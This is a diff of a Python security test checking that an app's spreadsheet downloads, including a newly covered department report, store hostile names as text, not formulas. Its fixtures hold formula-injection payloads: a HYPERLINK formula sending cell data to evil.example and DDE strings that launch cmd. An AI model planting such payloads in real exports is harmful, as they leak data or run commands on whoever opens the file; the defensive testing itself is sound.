@@ -23,7 +23,7 @@ from sqlalchemy import select, update
 
 from matcher.safe_cells import TRIGGERS, csv_row, text_cell
 from matcher.store.db import transaction
-from matcher.store.tables import Client, Option, Plan, Provider
+from matcher.store.tables import Client, Option, Placement, Plan, Provider
 from matcher.vocab.text import fold
 from tests.web.signin import login_form
 
@@ -34,7 +34,8 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"Hồ sơ")'
 OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
 # Every download of the product: path template -> what the test needs to fetch it.
-DOWNLOADS = {"/cohort/{plan_id}/plan.xlsx": "plan"}
+DOWNLOADS = {"/cohort/{plan_id}/plan.xlsx": "plan",
+             "/v1/reports/department.xlsx?year={year}&quarter={quarter}": "department"}
 MARKERS = ("Content-Disposition", "attachment", "Workbook", "csv.writer", "DictWriter",
            "to_csv", "to_excel", "StreamingResponse", "FileResponse")
 
@@ -79,7 +80,7 @@ def test_only_strings_that_start_a_formula_are_changed():
 
 
 def test_every_download_route_is_checked_here():
-    assert _download_routes() == set(DOWNLOADS), (
+    assert _download_routes() == {d.split("?")[0] for d in DOWNLOADS}, (
         "a download route is not covered by tests/security/test_downloads.py: add it to "
         "DOWNLOADS and write its cells with matcher.safe_cells")
 
@@ -159,7 +160,16 @@ def test_no_download_writes_stored_text_as_a_formula(api, db):
     with transaction(db) as s:
         used = sorted({a["option_id"] for a in s.get(Plan, plan_id).body["assignments"]})
     assert used, "the plan assigns nobody: the option and provider names go unchecked"
-    fetch = {"plan": {"plan_id": plan_id}}
+    with transaction(db) as s:  # a quarter in which a renamed provider has a placement
+        started = s.scalar(select(Placement.start_date)
+                           .where(Placement.option_id.in_(used)).limit(1))
+    assert started, "no placement in the plan's options: the report's names go unchecked"
+    fetch = {"plan": {"plan_id": plan_id},
+             "department": {"year": started.year, "quarter": (started.month - 1) // 3 + 1}}
+    # What each file must show of the hostile names: the plan lists clients and options;
+    # the Department's report only providers (its groups and places are the product's words).
+    shows = {"plan": ["'" + FORMULA, *("'" + o for o in OTHERS[:3])],
+             "department": ["'" + FORMULA]}
     with _formula_names(db, used), _signed_in(api, STAFF) as client:
         for template, needs in DOWNLOADS.items():
             path = template.format(**fetch[needs])
@@ -170,11 +180,13 @@ def test_no_download_writes_stored_text_as_a_formula(api, db):
                 cells = _cells(r.content, path)
                 texts = [v for _, v, _ in cells if isinstance(v, str)]
                 # The hostile names are there, as text: the test did reach them.
-                assert "'" + FORMULA in texts, path
-                assert {"'" + o for o in OTHERS[:3]} <= set(texts), path
+                assert set(shows[needs]) <= set(texts), path
                 for where, value, kind in cells:
                     assert kind != "f", (path, where, value)
                     assert not (isinstance(value, str) and value.startswith(TRIGGERS)), (
                         path, where, value)
                 # Numbers stay numbers.
-                assert any(isinstance(v, float) and 0 <= v <= 1 for _, v, _ in cells)
+                assert any(isinstance(v, int | float) and not isinstance(v, bool)
+                           for _, v, _ in cells), path
+                if needs == "plan":  # its chances of success, as numbers
+                    assert any(isinstance(v, float) and 0 <= v <= 1 for _, v, _ in cells)
